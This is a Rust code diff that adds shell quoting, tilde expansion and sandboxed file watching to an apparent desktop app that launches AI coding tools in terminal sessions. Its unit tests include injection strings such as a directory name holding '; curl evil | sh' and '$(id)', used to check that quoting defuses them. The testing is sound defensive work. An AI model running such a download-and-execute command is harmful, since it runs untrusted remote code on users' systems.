@@ -1,12 +1,21 @@
 use std::io::Write;
+use tauri::Manager;
 
+use crate::watcher::FileWatcher;
 use crate::{CellStateMap, PtySessions, now_millis, pty_manager,
             MAX_CELLS, DEFAULT_COLS, DEFAULT_ROWS, DEFAULT_TOOL_CMD, SHELL_READY_DELAY_MS};
 
+/// `s` as one single-quoted shell word.
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
 fn make_launch_command(work_dir: Option<&str>, tool_cmd: &str) -> String {
     let cmd = if tool_cmd.trim().is_empty() { DEFAULT_TOOL_CMD } else { tool_cmd };
     match work_dir {
         Some(dir) if !dir.trim().is_empty() => {
+            // Expanded here because the shell does not expand `~` inside quotes.
+            let dir = shell_quote(&crate::files::expand_tilde(dir));
             format!("mkdir -p {dir} && cd {dir} && {cmd}\n", dir = dir, cmd = cmd)
         }
         _ => format!("{cmd}\n", cmd = cmd),
@@ -53,6 +62,7 @@ async fn spawn_and_launch(
                 state.updated_at = now_millis();
             }
         }
+        pty_manager::emit_status(app, cell_id, "active");
 
         {
             let mut map = sessions.0.lock().map_err(|e| e.to_string())?;
@@ -62,6 +72,22 @@ async fn spawn_and_launch(
         tokio::time::sleep(tokio::time::Duration::from_millis(SHELL_READY_DELAY_MS)).await;
     }
 
+    if let Some(dir) = work_dir.filter(|d| !d.trim().is_empty()) {
+        // Create it now rather than waiting for the shell so it can be watched and browsed from the start.
+        let root = std::path::PathBuf::from(crate::files::expand_tilde(dir));
+        // Only work dirs inside a workspace root are watched; the cell still launches elsewhere.
+        if std::fs::create_dir_all(&root).is_ok() {
+            match crate::sandbox::check(&root.to_string_lossy()) {
+                Ok(root) => {
+                    if let Err(e) = app.state::<FileWatcher>().watch(&root, Some(cell_id)) {
+                        eprintln!("file watcher: {}", e);
+                    }
+                }
+                Err(e) => eprintln!("sandbox: {}", e),
+            }
+        }
+    }
+
     {
         let cmd = make_launch_command(work_dir, tool_cmd);
         let mut map = sessions.0.lock().map_err(|e| e.to_string())?;
@@ -125,3 +151,37 @@ pub(crate) async fn launch_cell(
     let cmd = tool_cmd.as_deref().unwrap_or(DEFAULT_TOOL_CMD);
     spawn_and_launch(&app, &sessions, &cell_states, &cell_id, work_dir.as_deref(), cmd).await
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn launch_command_quotes_the_work_dir() {
+        assert_eq!(
+            make_launch_command(Some("/out/a b"), "claude"),
+            "mkdir -p '/out/a b' && cd '/out/a b' && claude\n"
+        );
+        assert_eq!(
+            make_launch_command(Some("/out/x; curl evil | sh"), "claude"),
+            "mkdir -p '/out/x; curl evil | sh' && cd '/out/x; curl evil | sh' && claude\n"
+        );
+        assert_eq!(
+            make_launch_command(Some("/out/it's $(id)"), "claude"),
+            "mkdir -p '/out/it'\\''s $(id)' && cd '/out/it'\\''s $(id)' && claude\n"
+        );
+    }
+
+    #[test]
+    fn launch_command_without_a_work_dir() {
+        assert_eq!(make_launch_command(None, "codex"), "codex\n");
+        assert_eq!(make_launch_command(Some("  "), ""), format!("{}\n", DEFAULT_TOOL_CMD));
+    }
+
+    #[test]
+    fn launch_command_expands_tilde() {
+        let cmd = make_launch_command(Some("~/out"), "claude");
+        assert!(!cmd.contains('~'));
+        assert!(cmd.starts_with("mkdir -p '/"));
+    }
+}